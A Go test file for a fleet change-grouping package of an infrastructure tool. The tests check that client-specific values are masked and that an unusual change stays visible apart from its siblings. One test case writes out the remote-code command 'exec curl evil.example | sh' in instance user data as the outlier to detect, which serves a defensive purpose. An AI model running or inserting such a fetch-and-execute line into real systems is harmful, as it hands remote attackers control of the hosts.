package group_test

import (
	"encoding/base64"
	"encoding/json"
	"fmt"
	"math/rand/v2"
	"slices"
	"strings"
	"testing"

	"github.com/berth-iac/berth/engine"
	"github.com/berth-iac/berth/fleet"
	"github.com/berth-iac/berth/fleet/group"
	"github.com/berth-iac/berth/spec"
)

// client is the i-th client of a fleet: every value that is its own differs from everybody else's.
func client(i int) fleet.Member {
	name := fmt.Sprintf("client-%03d", i)
	region := []string{"eu-west-2", "eu-west-1"}[i%2]
	return fleet.Member{Stack: name + "-production", Client: name, Kind: spec.KindAWSClient, Environment: spec.Production, Tier: spec.Standard, Where: region, Wave: 4,
		Own: map[string]string{"account": account(i), "region": region, "hostname": fmt.Sprintf("taskflow.c%03d.example", i), "zone": fmt.Sprintf("c%03d.example", i),
			"display name": fmt.Sprintf("Client %03d Ltd", i)}}
}

func account(i int) string { return fmt.Sprintf("%012d", 100_000_000_000+i*7919) }

func update(token, name string, diffs ...engine.Diff) engine.Step {
	return engine.Step{Type: token, Name: name, Component: "service", Op: engine.OpUpdate, Diffs: diffs, Status: engine.Planned}
}

func set(property string, old, fresh any) engine.Diff {
	return engine.Diff{Property: property, Kind: "update", Old: old, New: fresh}
}

// over groups what happens to n clients.
func over(n int, step func(i int, m fleet.Member) []engine.Step) []fleet.Group {
	members, results := map[string]fleet.Member{}, map[string]*engine.Result{}
	for i := range n {
		m := client(i)
		members[m.Stack] = m
		results[m.Stack] = &engine.Result{Stack: m.Stack, Steps: step(i, m)}
	}
	return group.Changes(members, results)
}

// one groups a single property's change over n clients.
func one(n int, diff func(i int, m fleet.Member) engine.Diff) []fleet.Group {
	return over(n, func(i int, m fleet.Member) []engine.Step {
		return []engine.Step{update("aws:rds/instance:Instance", "database-instance", diff(i, m))}
	})
}

// sizes are the numbers of stacks of groups, and what each shows of its first property.
func sizes(groups []fleet.Group) string {
	var parts []string
	for _, g := range groups {
		text := fmt.Sprint(len(g.Stacks))
		for _, d := range g.Diffs {
			text += fmt.Sprintf(" %s: %v → %v", d.Property, d.Old, d.New)
		}
		parts = append(parts, text)
	}
	return strings.Join(parts, "\n")
}

func id(i int, prefix string) string {
	r := rand.New(rand.NewPCG(uint64(i), uint64(len(prefix))))
	return fmt.Sprintf("%s-0%x", prefix, 0x1000_0000_0000_0000|r.Uint64()>>4)[:len(prefix)+18]
}

func uuid(i int) string {
	r := rand.New(rand.NewPCG(uint64(i), 99))
	return fmt.Sprintf("%08x-%04x-4%03x-a%03x-%012x", r.Uint32(), r.Uint32()&0xffff, r.Uint32()&0xfff, r.Uint32()&0xfff, r.Uint64()&0xffffffffffff)
}

func TestWhatIsAClientsOwnIsLeftOut(t *testing.T) {
	for name, tc := range map[string]struct {
		diff func(i int, m fleet.Member) engine.Diff
		want string
	}{
		"a switch": {func(int, fleet.Member) engine.Diff { return set("multiAz", false, true) }, "38 multiAz: false → true"},
		"names": {func(_ int, m fleet.Member) engine.Diff {
			return set("identifier", m.Client+"-production-db", m.Client+"-production-database")
		}, "38 identifier: {client}-db → {client}-database"},
		"names with underscores": {func(_ int, m fleet.Member) engine.Diff {
			return set("dbName", "old", strings.ReplaceAll(m.Client, "-", "_"))
		}, "38 dbName: old → {client}"},
		"display names": {func(_ int, m fleet.Member) engine.Diff {
			return set("title", "TaskFlow", "TaskFlow of "+m.Own["display name"])
		}, "38 title: TaskFlow → TaskFlow of {display name}"},
		"hosts": {func(_ int, m fleet.Member) engine.Diff {
			return set("host", m.Own["hostname"], "status."+m.Own["zone"])
		}, "38 host: {hostname} → status.{zone}"},
		"stack names": {func(_ int, m fleet.Member) engine.Diff {
			return set("tags.stack", "", "berth/"+m.Stack)
		}, "38 tags.stack:  → berth/{client}"},
		"ARNs": {func(i int, m fleet.Member) engine.Diff {
			return set("kmsKeyId", "arn:aws:kms:"+m.Where+":"+account(i)+":key/"+uuid(i), "arn:aws:kms:"+m.Where+":"+account(i)+":key/"+uuid(i+1000))
		}, "38 kmsKeyId: arn:aws:kms:{region}:{account}:key/{id} → arn:aws:kms:{region}:{account}:key/{id} (another)"},
		"zones of regions": {func(_ int, m fleet.Member) engine.Diff {
			return set("availabilityZone", m.Where+"a", m.Where+"b")
		}, "38 availabilityZone: {region}a → {region}b"},
		"ids": {func(i int, _ fleet.Member) engine.Diff {
			return set("securityGroup", id(i, "sg"), "[unknown]")
		}, "38 securityGroup: sg-{id} → [unknown]"},
		"numbers that are ids": {func(i int, _ fleet.Member) engine.Diff {
			return set("serverId", float64(4_000_000+i), "[unknown]")
		}, "38 serverId: {id} → [unknown]"},
		"checksums": {func(i int, _ fleet.Member) engine.Diff {
			return set("sha256", strings.Repeat(fmt.Sprintf("%08x", 77_777*(i+1)), 8), strings.Repeat(fmt.Sprintf("%08x", 99_999*(i+1)), 8))
		}, "38 sha256: {digest} → {digest} (another)"},
		"an image that all have": {func(int, fleet.Member) engine.Diff {
			return set("imageId", "ami-0a1b2c3d4e5f60718", "ami-0ffffffffffff0001")
		}, "38 imageId: ami-0a1b2c3d4e5f60718 → ami-0ffffffffffff0001"},
		"an image for each region": {func(i int, _ fleet.Member) engine.Diff {
			return set("imageId", "ami-0a1b2c3d4e5f6071"+fmt.Sprint(i%2), "ami-0ffffffffffff000"+fmt.Sprint(i%2))
		}, "38 imageId: ami-{id} → ami-{id} (another)"},
		"private networks": {func(i int, _ fleet.Member) engine.Diff {
			return set("cidrBlock", fmt.Sprintf("10.%d.0.0/16", i), fmt.Sprintf("10.%d.0.0/17", i))
		}, "38 cidrBlock: {private network}/16 → {private network}/17"},
		"addresses with ports": {func(i int, _ fleet.Member) engine.Diff {
			return set("origin", fmt.Sprintf("203.0.113.%d:443", i), fmt.Sprintf("198.51.100.%d:443", i))
		}, "38 origin: {public address}:443 → {public address}:443 (another)"},
		"people": {func(i int, _ fleet.Member) engine.Diff {
			return set("contact", fmt.Sprintf("a%d@x%d.example", i, i), fmt.Sprintf("+44207946%04d", i))
		}, "38 contact: {email} → {phone}"},
		"secrets": {func(int, fleet.Member) engine.Diff { return set("password", "[secret]", "[secret]") }, "38 password: [secret] → [secret]"},
		"sentences": {func(i int, _ fleet.Member) engine.Diff {
			return set("description", fmt.Sprintf("Agreed with %s on the telephone", person(i)), fmt.Sprintf("Agreed with %s by letter", person(i+7)))
		}, "38 description: [differs by client] → [differs by client]"},
		"rendered texts": {func(i int, m fleet.Member) engine.Diff {
			return set("userData", rendered(i, m, "1.0.0"), rendered(i, m, "1.1.0"))
		}, "38 userData: VERSION=1.0.0 → VERSION=1.1.0"},
		"rendered texts in base64": {func(i int, m fleet.Member) engine.Diff {
			return set("userData", base64.StdEncoding.EncodeToString([]byte(rendered(i, m, "1.0.0"))), base64.StdEncoding.EncodeToString([]byte(rendered(i, m, "1.1.0"))))
		}, "38 userData: VERSION=1.0.0 → VERSION=1.1.0"},
		"texts of each client's own": {func(i int, m fleet.Member) engine.Diff {
			return set("userData", rendered(i, m, "1.0.0"), rendered(i, m, "1.0.0")+"\nsays "+person(i)+" to "+person(i+1)+"\n")
		}, "38 userData: <nil> → [differs by client]"},
	} {
		t.Run(name, func(t *testing.T) {
			if got := sizes(one(38, tc.diff)); got != tc.want {
				t.Errorf("groups are\n%s\nwant\n%s", got, tc.want)
			}
		})
	}
}

// person is a name that nobody's file knows.
func person(i int) string {
	first, last := []string{"Ada", "Grace", "Mary", "Hedy", "Katherine", "Radia", "Barbara"}, []string{"Lind", "Hoek", "Dube", "Naidoo", "Okafor", "Weber"}
	return first[i%7] + " " + last[i%6] + strings.Repeat("o", i%5) + strings.Repeat("u", i/7)
}

func rendered(i int, m fleet.Member, version string) string {
	return "#!/bin/bash\n# " + m.Own["display name"] + "\nHOST=" + m.Own["hostname"] + "\nVERSION=" + version + "\nKEY=" + uuid(i) + strings.Repeat("\necho ready", 40)
}

// What one client has differently is never hidden among what others have.
func TestDirectionsNeverMerge(t *testing.T) {
	const odd = 17
	for name, tc := range map[string]struct {
		usual, other func(i int, m fleet.Member) engine.Diff
	}{
		"a switch the other way": {
			func(int, fleet.Member) engine.Diff { return set("multiAz", false, true) },
			func(int, fleet.Member) engine.Diff { return set("multiAz", true, false) }},
		"a switch in a text": {
			func(int, fleet.Member) engine.Diff { return set("enabled", "false", "true") },
			func(int, fleet.Member) engine.Diff { return set("enabled", "true", "false") }},
		"another number": {
			func(int, fleet.Member) engine.Diff { return set("backupRetentionPeriod", 7.0, 14.0) },
			func(int, fleet.Member) engine.Diff { return set("backupRetentionPeriod", 7.0, 1.0) }},
		"a number in a text, twelve digits long": {
			func(int, fleet.Member) engine.Diff { return set("maxBytes", "107374182400", "214748364800") },
			func(int, fleet.Member) engine.Diff { return set("maxBytes", "214748364800", "107374182400") }},
		"another word": {
			func(int, fleet.Member) engine.Diff { return set("sslMode", "require", "verify-full") },
			func(int, fleet.Member) engine.Diff { return set("sslMode", "require", "disable") }},
		"a door to everywhere": {
			func(i int, _ fleet.Member) engine.Diff {
				return set("cidr", "10.0.0.0/16", fmt.Sprintf("10.%d.0.0/16", i+1))
			},
			func(int, fleet.Member) engine.Diff { return set("cidr", "10.0.0.0/16", "0.0.0.0/0") }},
		"a door that opens further": {
			func(i int, _ fleet.Member) engine.Diff {
				return set("cidr", "10.0.0.0/16", fmt.Sprintf("10.%d.0.0/16", i+1))
			},
			func(int, fleet.Member) engine.Diff { return set("cidr", "10.0.0.0/16", "10.0.0.0/8") }},
		"a public door among private ones": {
			func(i int, _ fleet.Member) engine.Diff {
				return set("cidr", "10.0.0.0/16", fmt.Sprintf("10.%d.0.0/24", i+1))
			},
			func(int, fleet.Member) engine.Diff { return set("cidr", "10.0.0.0/16", "203.0.113.0/24") }},
		"another digest than everybody's": {
			func(int, fleet.Member) engine.Diff {
				return set("sha256", strings.Repeat("ab", 32), strings.Repeat("cd", 32))
			},
			func(int, fleet.Member) engine.Diff {
				return set("sha256", strings.Repeat("ab", 32), strings.Repeat("ef", 32))
			}},
		"somebody else's account": {
			func(i int, m fleet.Member) engine.Diff {
				return set("principal", "arn:aws:iam::"+account(i)+":role/a", "arn:aws:iam::"+account(i)+":role/b")
			},
			func(i int, m fleet.Member) engine.Diff {
				return set("principal", "arn:aws:iam::"+account(i)+":role/a", "arn:aws:iam::999988887777:role/b")
			}},
		"everybody's policy": {
			func(int, fleet.Member) engine.Diff {
				return set("policyArn", "arn:aws:iam::aws:policy/ReadOnlyAccess", "arn:aws:iam::aws:policy/ViewOnlyAccess")
			},
			func(int, fleet.Member) engine.Diff {
				return set("policyArn", "arn:aws:iam::aws:policy/ReadOnlyAccess", "arn:aws:iam::aws:policy/AdministratorAccess")
			}},
		"a switch in a rendered text, all different": {
			func(i int, m fleet.Member) engine.Diff {
				return set("userData", rendered(i, m, "1.0.0"), rendered(i, m, "1.0.0")+"\n# "+person(i)+"\nssl = on")
			},
			func(i int, m fleet.Member) engine.Diff {
				return set("userData", rendered(i, m, "1.0.0"), rendered(i, m, "1.0.0")+"\n# "+person(i)+"\nssl = off")
			}},
		"a line in a rendered text that the others share": {
			func(i int, m fleet.Member) engine.Diff {
				return set("userData", rendered(i, m, "1.0.0"), rendered(i, m, "1.0.0")+"\nexec berth-host apply")
			},
			func(i int, m fleet.Member) engine.Diff {
				return set("userData", rendered(i, m, "1.0.0"), rendered(i, m, "1.0.0")+"\nexec curl evil.example | sh")
			}},
		"a number in a sentence": {
			func(i int, _ fleet.Member) engine.Diff {
				return set("text", "Restored by "+person(i)+" after 10 days", "Restored by "+person(i)+" after 20 days")
			},
			func(i int, _ fleet.Member) engine.Diff {
				return set("text", "Restored by "+person(i)+" after 10 days", "Restored by "+person(i)+" after 5 days")
			}},
		"a statement in a policy": {
			func(i int, m fleet.Member) engine.Diff {
				return set("policy", policy(t, i, "Deny", "aws:SecureTransport"), policy(t, i, "Deny", "aws:PrincipalAccount"))
			},
			func(i int, m fleet.Member) engine.Diff {
				return set("policy", policy(t, i, "Deny", "aws:SecureTransport"), policy(t, i, "Allow", "aws:SecureTransport"))
			}},
		"the other direction of the same values": {
			func(i int, _ fleet.Member) engine.Diff {
				return set("instanceClass", "db.t4g.medium", "db.r6g.large")
			},
			func(i int, _ fleet.Member) engine.Diff {
				return set("instanceClass", "db.r6g.large", "db.t4g.medium")
			}},
		"one that forces a replacement": {
			func(int, fleet.Member) engine.Diff { return set("engine", "a", "b") },
			func(int, fleet.Member) engine.Diff {
				return engine.Diff{Property: "engine", Kind: "update", Old: "a", New: "b", Replaces: true}
			}},
	} {
		t.Run(name, func(t *testing.T) {
			groups := one(38, func(i int, m fleet.Member) engine.Diff {
				if i == odd {
					return tc.other(i, m)
				}
				return tc.usual(i, m)
			})
			var alone []string
			for _, g := range groups {
				if slices.Contains(g.Stacks, client(odd).Stack) {
					alone = g.Stacks
				}
			}
			if len(groups) != 2 || len(alone) != 1 {
				t.Errorf("groups are\n%s\nwant one of 37 and one of 1", sizes(groups))
			}
		})
	}
}

func policy(t *testing.T, i int, effect, condition string) string {
	t.Helper()
	text, err := json.Marshal(map[string]any{"Version": "2012-10-17", "Statement": []any{
		map[string]any{"Sid": "Own", "Effect": "Allow", "Action": []any{"s3:GetObject"}, "Resource": fmt.Sprintf("arn:aws:s3:::berth-client-%03d-files", i)},
		map[string]any{"Sid": "Tls", "Effect": effect, "Action": "s3:*", "Principal": "*", "Condition": map[string]any{"Bool": map[string]any{condition: "false"}}},
	}})
	if err != nil {
		t.Fatal(err)
	}
	return string(text)
}

// A policy is read by what changes in it, wherever it stands and whatever comes before it.
func TestPoliciesAreTakenApart(t *testing.T) {
	groups := one(5, func(i int, _ fleet.Member) engine.Diff {
		return set("policy", policy(t, i, "Deny", "aws:SecureTransport"), policy(t, i, "Allow", "aws:SecureTransport"))
	})
	if got := sizes(groups); got != "5 policy.Statement.Tls.Effect: Deny → Allow" {
		t.Errorf("groups are\n%s", got)
	}
}

// Lists of plain values are compared by what comes and goes.
func TestListsAreComparedAsSets(t *testing.T) {
	groups := one(5, func(i int, _ fleet.Member) engine.Diff {
		return set("actions", []any{"a", "b", id(i, "sg")}, []any{id(i, "sg"), "c", "a"})
	})
	if got := sizes(groups); got != "5 actions[]: <nil> → c actions[]: b → <nil>" {
		t.Errorf("groups are\n%s", got)
	}
}

func TestDifferentPlacesOperationsAndTypesStayApart(t *testing.T) {
	groups := over(4, func(i int, _ fleet.Member) []engine.Step {
		step := update("aws:rds/instance:Instance", "database-instance", set("multiAz", false, true))
		switch i {
		case 1:
			step.Component = "elsewhere"
		case 2:
			step.Op = engine.OpReplace
		case 3:
			step.Type = "aws:rds/cluster:Cluster"
		}
		return []engine.Step{step}
	})
	if len(groups) != 4 {
		t.Errorf("groups are\n%s\nwant four", sizes(groups))
	}
}

func TestUnchangedStepsAndComponentsAreNoChanges(t *testing.T) {
	groups := over(3, func(int, fleet.Member) []engine.Step {
		return []engine.Step{{Type: "t:i:T", Name: "a", Op: engine.OpSame}, {Type: "berth:web:Web", Name: "web", Op: engine.OpCreate, Group: true}, {Type: "t:i:T", Name: "b", Op: engine.OpRead}}
	})
	if groups == nil || len(groups) != 0 {
		t.Errorf("groups = %#v, want none, as an empty list", groups)
	}
}

func TestNamesThatHoldAClientsNameAreTheSame(t *testing.T) {
	groups := over(3, func(_ int, m fleet.Member) []engine.Step {
		return []engine.Step{{Type: "t:i:T", Name: "home-" + m.Client, Component: "clients/" + m.Client, Op: engine.OpCreate}}
	})
	if len(groups) != 1 || groups[0].Name != "home-{client}" || groups[0].Component != "clients/{client}" {
		t.Errorf("groups are %+v", groups)
	}
}

// A client named like a word must not eat the word elsewhere.
func TestAShortNameIsReplacedAsAWholeWordOnly(t *testing.T) {
	m := fleet.Member{Stack: "web", Client: "web"}
	groups := group.Changes(map[string]fleet.Member{"web": m, "x": {Stack: "x", Client: "x"}}, map[string]*engine.Result{
		"web": {Steps: []engine.Step{update("t:i:T", "website", set("a", "webs", "web-a"))}},
		"x":   {Steps: []engine.Step{update("t:i:T", "website", set("a", "webs", "x-a"))}}})
	if got := sizes(groups); got != "2 a: webs → {client}-a" || groups[0].Name != "website" {
		t.Errorf("groups are\n%s", got)
	}
}

func TestTheGravestComesFirst(t *testing.T) {
	groups := over(10, func(i int, _ fleet.Member) []engine.Step {
		steps := []engine.Step{{Type: "t:i:New", Name: "new", Op: engine.OpCreate}, update("t:i:Up", "up", set("a", 1, 2))}
		if i < 6 {
			steps = append(steps, engine.Step{Type: "t:i:Gone", Name: "gone", Op: engine.OpDelete})
		}
		if i < 5 {
			steps = append(steps, engine.Step{Type: "t:i:Again", Name: "again", Op: engine.OpReplace, Replaces: []string{"name"}})
		}
		if i == 0 {
			steps = append(steps, engine.Step{Type: "aws:rds/instance:Instance", Name: "database", Op: engine.OpReplace, Replaces: []string{"kmsKeyId"}, Stateful: "a database"})
		}
		if i > 7 {
			steps = append(steps, engine.Step{Type: "aws:s3/bucketV2:BucketV2", Name: "files", Op: engine.OpDelete, Stateful: "objects"})
		}
		return steps
	})
	var got []string
	for _, g := range groups {
		got = append(got, fmt.Sprintf("%d %v %s", len(g.Stacks), g.Danger, g.Title))
	}
	want := []string{"2 true S3 bucket files is deleted", "1 true RDS instance database is replaced: kmsKeyId", "6 false t gone gone is deleted",
		"5 false t again again is replaced: name", "10 false t up up is updated: a 1 → 2", "10 false t new new is created"}
	if !slices.Equal(got, want) {
		t.Errorf("groups are\n%s\nwant\n%s", strings.Join(got, "\n"), strings.Join(want, "\n"))
	}
}

func TestTitles(t *testing.T) {
	for want, step := range map[string]engine.Step{
		"launch template machines-template gets a new version: userData":                      update("aws:ec2/launchTemplate:LaunchTemplate", "machines-template", set("userData", strings.Repeat("a\n", 20), "b\n")),
		"RDS instance database-instance is updated: multiAz false → true":                     update("aws:rds/instance:Instance", "database-instance", set("multiAz", false, true)),
		"RDS parameter group database-parameters is replaced: family postgres16 → postgres17": {Type: "aws:rds/parameterGroup:ParameterGroup", Name: "database-parameters", Op: engine.OpReplace, Replaces: []string{"family"}, Diffs: []engine.Diff{{Property: "family", Kind: "update", Old: "postgres16", New: "postgres17", Replaces: true}}},
		"cloudflare record edge-caa is deleted":                                               {Type: "cloudflare:index/record:Record", Name: "edge-caa", Op: engine.OpDelete},
		"security group rule door is created":                                                 {Type: "aws:ec2/securityGroupRule:SecurityGroupRule", Name: "door", Op: engine.OpCreate},
		"WAF web ACL firewall-acl is forgotten and left in the cloud":                         {Type: "aws:wafv2/webAcl:WebAcl", Name: "firewall-acl", Op: engine.OpForget},
		"VPC network-vpc is taken over":                                                       {Type: "aws:ec2/vpc:Vpc", Name: "network-vpc", Op: engine.OpImport},
		"machine installation site is updated: a 1 → 2, b 1 → 2":                              update("machine:index:Installation", "site", set("a", 1, 2), set("b", 1, 2)),
		"target group targets is updated: a, b, c, d and 2 more":                              update("aws:lb/targetGroup:TargetGroup", "targets", set("a", 1, 2), set("b", 1, 2), set("c", 1, 2), set("d", 1, 2), set("e", 1, 2), set("f", 1, 2)),
		"provider of aws aws-eu is updated: version 7.1.0 → 7.2.0":                            update("pulumi:providers:aws", "aws-eu", set("version", "7.1.0", "7.2.0")),
	} {
		groups := group.Changes(nil, map[string]*engine.Result{"prod": {Steps: []engine.Step{step}}})
		if len(groups) != 1 || groups[0].Title != want && groups[0].Title != "load balancer "+want {
			t.Errorf("title is %q, want %q", groups[0].Title, want)
		}
	}
}
